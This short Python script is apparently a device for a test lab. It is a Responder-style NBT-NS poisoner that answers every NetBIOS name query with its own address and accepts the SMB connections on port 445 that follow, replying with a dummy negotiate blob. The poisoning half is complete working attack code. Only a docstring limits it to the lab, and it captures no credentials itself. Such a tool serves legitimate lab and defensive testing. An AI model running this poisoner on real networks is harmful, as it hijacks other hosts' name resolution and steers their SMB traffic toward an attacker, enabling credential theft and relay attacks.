#!/usr/bin/python3
"""Responder-like NBT-NS poisoner (the f4 lab's device): answers every NetBIOS name query (udp/137, broadcast
or unicast) with a positive response naming its own address argv[1], and accepts the SMB connections that
follow on tcp/445 (reads the client's negotiate, answers a fixed blob, closes). Only inside the lab's namespace."""
import os, socket, struct, sys, threading
me = sys.argv[1]

def smb():
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((me, 445)); t.listen(8)
    while True:
        c, _ = t.accept()
        try:
            c.settimeout(3)
            c.recv(4096)
            c.sendall(b"\x00\x00\x00\xc0\xfeSMB" + os.urandom(188))   # a negotiate-response-sized answer
            c.recv(4096)
        except OSError:
            pass
        c.close()

threading.Thread(target=smb, daemon=True).start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.bind(("0.0.0.0", 137))
while True:
    q, peer = s.recvfrom(2048)
    if peer[0] == me or len(q) < 12 + 34 + 4 or q[2] & 0x80 or (q[2] >> 3) & 0x0F != 0:
        continue                                   # not a name query
    name = q[12:12 + 34]                            # 0x20 + 32 encoded bytes + 0
    if struct.unpack(">H", q[46:48])[0] != 0x20:    # NB, not NBSTAT
        continue
    ans = (q[:2] + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0) + name
           + struct.pack(">HHIH", 0x20, 1, 165, 6) + struct.pack(">H", 0) + socket.inet_aton(me))
    s.sendto(ans, peer)
